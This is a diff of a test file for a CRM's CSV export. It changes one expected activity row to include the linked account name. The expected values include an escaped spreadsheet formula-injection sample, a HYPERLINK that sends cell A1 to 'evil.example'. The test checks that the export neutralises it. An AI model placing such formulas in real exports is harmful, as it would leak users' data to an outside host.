@@ -157,7 +157,8 @@ describe('CSV export', () => {
     const stage = dealHeader?.indexOf('Stage') ?? -1;
     expect([big?.[stage], yen?.[stage]]).toEqual(['Lead', 'Won']);
     const activities = await runCounted({ entity: 'activities', query: {} });
-    expect(rowsOf(activities.csv)[1]?.slice(0, 5)).toEqual(['call', 'Intro call', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', '', 'Big deal']);
+    // Logged on the contact and the deal, the call is linked to the deal's account too (activity.service's accountFor).
+    expect(rowsOf(activities.csv)[1]?.slice(0, 5)).toEqual(['call', 'Intro call', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+Plus Industries", 'Big deal']);
     const tasks = await runCounted({ entity: 'tasks', query: {} });
     expect(tasks.rows).toBe(0);
     expect(rowsOf(tasks.csv)).toHaveLength(1);
